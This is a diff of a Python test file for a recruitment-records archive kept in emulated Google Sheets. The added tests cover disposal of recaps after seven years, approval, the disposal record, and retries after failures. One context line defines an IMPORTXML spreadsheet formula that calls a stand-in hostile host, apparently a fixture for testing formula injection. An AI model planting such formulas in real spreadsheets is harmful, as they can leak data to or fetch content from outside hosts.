@@ -12,10 +12,12 @@ import pytest
 
 from flows.commands.archive import verify
 from flows.procedure.cases import Source
-from flows.workbook.flow_tabs import ARCHIVE, RECAP
+from flows.workbook.flow_tabs import ARCHIVE, DISPOSAL, RECAP
 from flows.workbook.tabs import PERIODS, RECAP_RECIPIENTS, VACANCIES
+from tests.documents.poppler import pages
 from tests.google_emulator import Colleague, Spreadsheet
 from tests.steps.google_world import World, vacancy, world
+from tests.steps.test_google_retention import NAME, YEARS, put, retain
 
 DAY = 86_400.0
 FEEDBACK = '=IMPORTXML("https://jahat.example","//a")'
@@ -119,3 +121,71 @@ def test_a_tab_that_somebody_altered_or_deleted_is_found(
     assert found(archived, capsys) == f"{archived.title}: its tab in the archive's spreadsheet differs from its file"
     archived.staff.delete_tab(archived.title)
     assert found(archived, capsys) == f"{archived.title}: has no tab in the archive's spreadsheet"
+
+
+def approve(archived: Archived) -> None:
+    """Seven years on, somebody agrees that the recaps may go."""
+    archived.made.google.clock.advance(YEARS)
+    retain(archived.made)
+    kinds = [row["Jenis"] for row in archived.made.rows(DISPOSAL)]
+    put(archived.made, DISPOSAL.title, kinds.index("Rekapitulasi Hasil Perekrutan") + 2, NAME, "Rina")
+
+
+def titles(archived: Archived) -> list[str]:
+    return [sheet.title for sheet in archived.book.sheets]
+
+
+def report(archived: Archived) -> str:
+    """What the record of the disposal says, without spaces: a title may go over two lines."""
+    with archived.made.office() as office:
+        [entry] = office.ledger.archive.entries("disposal")
+        content = office.archive.read(entry.path)
+    assert content is not None
+    return "".join("".join(pages(content)).split())
+
+
+def test_it_goes_with_the_recap_and_the_record_says_so(archived: Archived) -> None:
+    archived.made.tick()
+    before = titles(archived)
+    approve(archived)
+    assert titles(archived) == before, "nothing goes before it is approved and settled"
+    assert retain(archived.made) == 2
+    assert titles(archived) == [one for one in before if one != archived.title]
+    assert f"dihapus:{archived.title}." in report(archived)
+    archived.made.google.log.clear()
+    retain(archived.made)
+    assert [call for call in archived.made.google.log if archived.book.id in call.path] == []
+
+
+def test_a_tab_of_staff_s_that_bears_its_title_stays(archived: Archived) -> None:
+    archived.made.tick()
+    approve(archived)
+    archived.staff.delete_tab(archived.title)
+    archived.staff.add_tab(archived.title)
+    archived.staff.type(archived.title, "A1", "Catatan kami")
+    retain(archived.made)
+    assert archived.rows() == [["Catatan kami"]]
+
+
+@pytest.mark.parametrize(
+    "fault",
+    [
+        {"action": 503, "on": "spreadsheets.batchUpdate", "times": 1_000},
+        {"action": "lost", "on": "spreadsheets.batchUpdate"},
+    ],
+    ids=["nothing is deleted", "the reply is lost"],
+)
+def test_what_cannot_be_deleted_in_one_run_is_in_the_next(
+    archived: Archived, fault: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    archived.made.tick()
+    for title in titles(archived):
+        if title != archived.title:
+            archived.staff.delete_tab(title)  # and it is the last one, which Google keeps
+    approve(archived)
+    monkeypatch.setattr("flows.google.connection.ATTEMPTS", 1)
+    archived.made.google.fail(**fault)
+    retain(archived.made)
+    archived.made.google.rules.clear()
+    retain(archived.made)
+    assert titles(archived) == ["Kosong"]
